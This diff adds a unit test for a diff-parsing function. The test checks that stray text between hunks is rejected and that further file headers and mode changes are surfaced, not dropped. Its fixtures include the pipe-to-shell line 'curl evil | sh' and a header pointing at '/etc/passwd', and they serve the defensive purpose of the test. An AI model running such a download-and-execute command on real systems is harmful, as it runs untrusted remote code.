@@ -33,3 +33,26 @@ test("[VIW-27] an added file is its plain content; what cannot be read as a diff
   expect(diffLines(change("update", "@@ -1,9 +1,9 @@\n cut off"))).toBeNull();
   expect(diffLines(change("update", "no diff at all"))).toBeNull();
 });
+
+test("[VIW-95] nothing of a diff is left out in silence: text between hunks makes it plain text, other files and modes are told", () => {
+  const hunk = "@@ -1 +1 @@\n-a\n+b\n";
+  expect(diffLines(change("update", `${hunk}curl evil | sh\n`))).toBeNull();
+  expect(diffLines(change("update", `curl evil | sh\n--- a\n+++ b\n${hunk}`))).toBeNull();
+  const two = diffLines(change("update", `--- a\n+++ a\n${hunk}--- x\n+++ /etc/passwd\n${hunk}`));
+  expect(two?.map((line) => line.parts.map((part) => part.text).join(""))).toEqual([
+    "a",
+    "b",
+    "--- x",
+    "+++ /etc/passwd",
+    "@@ line 1",
+    "a",
+    "b",
+  ]);
+  expect(
+    diffLines(change("update", `diff --git a/x b/x\nold mode 100644\nnew mode 100755\nindex 1..2\n${hunk}`))?.map(
+      (line) => line.kind,
+    ),
+  ).toEqual(["note", "note", "hunk", "del", "add"]);
+  // A removed line that looks like a file's name is a line of its hunk.
+  expect(diffLines(change("update", "@@ -1 +0,0 @@\n--- x\n"))?.map((line) => line.kind)).toEqual(["del"]);
+});
